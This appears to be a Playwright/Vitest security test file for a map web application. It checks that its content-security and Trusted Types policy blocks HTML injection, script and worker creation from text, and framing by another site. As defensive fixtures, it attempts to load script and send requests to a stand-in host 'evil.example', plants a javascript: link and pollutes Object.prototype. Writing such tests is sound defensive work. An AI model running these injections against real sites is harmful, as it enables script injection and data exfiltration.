import type { Page } from 'playwright-core';
import { afterEach, describe, expect, inject, test } from 'vitest';
import type {} from '../../src/trust';
import { rows, workbook } from '../data/making';
import { guard, traces } from './attacks';
import { drop } from './drop';
import { type MapPage, openBrowser, openMap, takeViolations } from './harness';

/* The security policy as the browser holds it: whatever got into a page could not do either. */

let map: MapPage | null = null;
afterEach(() => map?.close());

async function open(path = '?v=1&lang=zh-Hans', idle = true): Promise<Page> {
  map = await openMap({ path, idle });
  return map.page;
}

/** Whether the page is let do something. */
const may = (page: Page, deed: () => unknown) =>
  page.evaluate(
    `(async () => { try { return (await (${deed})()) ?? true; } catch { return false; } })()`,
  );

describe.skipIf(inject('surface') === 'twin')('a page may not', () => {
  test('make markup, scripts or workers of text, nor send anything elsewhere', async () => {
    const page = await open('?v=1', false);
    await page.locator('#app .header').waitFor();
    const deeds: (() => unknown)[] = [
      () => {
        document.body.innerHTML = '<b>a</b>';
      },
      () => document.body.insertAdjacentHTML('beforeend', '<b>a</b>'),
      () => new DOMParser().parseFromString('<b>a</b>', 'text/html'),
      () => document.createRange().createContextualFragment('<b>a</b>'),
      () => document.write('<b>a</b>'),
      () => {
        document.createElement('script').text = 'owned=1';
      },
      () => {
        document.createElement('script').src = 'https://evil.example/a.js';
      },
      () => setTimeout('owned=1', 0),
      () => new Worker('data:text/javascript,owned=1'),
      () => new Worker(URL.createObjectURL(new Blob(['owned=1']))),
      () => new Worker('https://evil.example/a.js'),
      () => fetch('https://evil.example/'),
      () => window.trustedTypes?.createPolicy('other', { createScriptURL: (address) => address }),
    ];
    for (const deed of deeds) expect(await may(page, deed), String(deed)).toBe(false);
    expect(await page.locator('#app .header').count()).toBe(1);
    expect(takeViolations().length).toBeGreaterThanOrEqual(deeds.length);
  });

  test('nor may its workers', async () => {
    const page = await open();
    const [worker] = page.workers();
    if (!worker) throw new Error('MapLibre has no worker');
    const done = await worker.evaluate(async () => {
      const tried: string[] = [];
      const attempt = async (name: string, deed: () => unknown) => {
        try {
          await deed();
          tried.push(name);
        } catch {
          // It was forbidden.
        }
      };
      await attempt('a worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
      await attempt('a request', () => fetch('https://evil.example/'));
      await attempt('a timer', () => setTimeout('1' as unknown as () => void, 0));
      return tried;
    });
    expect(done).toEqual([]);
    takeViolations();
  });

  test('be shown in the frame of another site', async () => {
    const page = await (await openBrowser()).newPage();
    await page.route('http://other.example/', (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<iframe src="${inject('address')}"></iframe>`,
      }),
    );
    await page.goto('http://other.example/');
    const [, frame] = page.frames();
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    takeViolations();
    await page.close();
  });
});

test('what the tests of attacks look for they find', async () => {
  const page = await open('?v=1', false);
  const deeds = await guard(page.context());
  await page.reload();
  await page.evaluate(() => {
    const image = document.createElement('img');
    image.className = 'owned';
    document.body.append(image);
    const link = document.createElement('a');
    link.href = 'javascript:owned=1';
    document.body.append(link);
    Object.assign(Object.prototype, { owned: 1 });
    setTimeout(() => alert('a'));
  });
  await expect.poll(() => deeds).toHaveLength(1);
  expect(await traces(page)).toHaveLength(3);
});

test('a workbook of a megabyte is read, though no worker may be made of text', async () => {
  const page = await open('?v=1&lang=zh-Hans&show=data', false);
  await page.locator('.data-open').waitFor();
  const cells = Array.from({ length: 12_000 }, (_, at) => [
    `地块${at}`,
    112 + (at % 100) / 100,
    22 + at / 50_000,
  ]);
  await drop(page, '地块.xlsx', workbook({ 地块: rows([['名称', '经度', '纬度'], ...cells]) }));
  await page.getByLabel('坐标系').selectOption('WGS84');
  await page.getByRole('button', { name: '放到图上' }).click();
  await expect
    .poll(() => page.locator('.data-import').last().textContent(), { timeout: 40_000 })
    .toContain('读取了 12000 条');
});
